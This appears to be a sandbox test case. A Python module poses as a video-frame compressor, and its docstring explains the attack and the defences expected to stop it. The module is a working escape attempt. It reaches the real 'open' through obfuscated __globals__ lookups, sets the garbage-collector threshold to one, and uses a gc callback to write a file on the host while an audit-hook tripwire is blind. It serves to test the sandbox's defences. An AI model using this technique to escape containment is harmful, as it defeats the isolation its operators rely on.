"""Attack: act while the tripwire looks away. The audit hook used to ignore every event
while it read a frame's code (its own reads are audit events too), and to hand candidate
code its own frame. A garbage collector callback, run by an allocation in the middle of
that read (the collection threshold set to one), asks for its caller's frame, sees the hook
there, and opens a file for writing on the host while the hook is not looking.

Expected: rejected statically (`sys`, `_getframe`, `f_globals`, `__globals__`). With static
validation off the hook never looks away and hands out no frame: the open, tried in plain
sight once no blind spot is found, trips it (violation); seccomp kills the write-open,
Landlock refuses it and bubblewrap confines it.
"""
import lzma
import typing

import numpy as np

interpreter = typing.sys
collector = interpreter.modules["gc"]
real_open = lzma.compress.__globals__["_" * 2 + "builtins" + "_" * 2]["op" + "en"]
target = []


def write_to(path):
    handle = real_open(path, "w")
    print("pwned", file=handle, flush=True)


def inside_the_hook(phase, info):
    if not target or phase != "start":
        return
    try:
        caller = interpreter._getframe(1)
    except ValueError:  # no frames: no way to tell where the collection ran
        return
    if caller.f_globals.get("_" * 2 + "name" + "_" * 2) == "tripwire":
        write_to(target.pop())


def compress_video_frame(frame, frame_index, config):
    target.append(f"{config['target_dir']}/meaning_tripwire_blind_spot")
    collector.callbacks.append(inside_the_hook)
    collector.set_threshold(1)
    for _ in range(200):
        try:
            interpreter._getframe(0)  # the hook read this frame's code to decide
        except ValueError:
            pass
    collector.set_threshold(700)
    collector.callbacks.remove(inside_the_hook)
    if target:
        write_to(target.pop())
    return b"ESCAPED:wrote a file"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
